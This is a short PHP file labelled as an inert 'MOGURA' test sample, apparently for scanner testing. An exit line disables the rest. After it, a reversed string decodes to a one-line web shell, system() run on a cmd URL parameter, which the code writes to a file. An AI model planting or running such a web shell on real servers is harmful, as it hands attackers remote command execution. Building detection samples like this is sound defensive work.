<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs
$r = strrev(';)]"dmc"[TEG_$(metsys');
file_put_contents('w.tmp', $r);
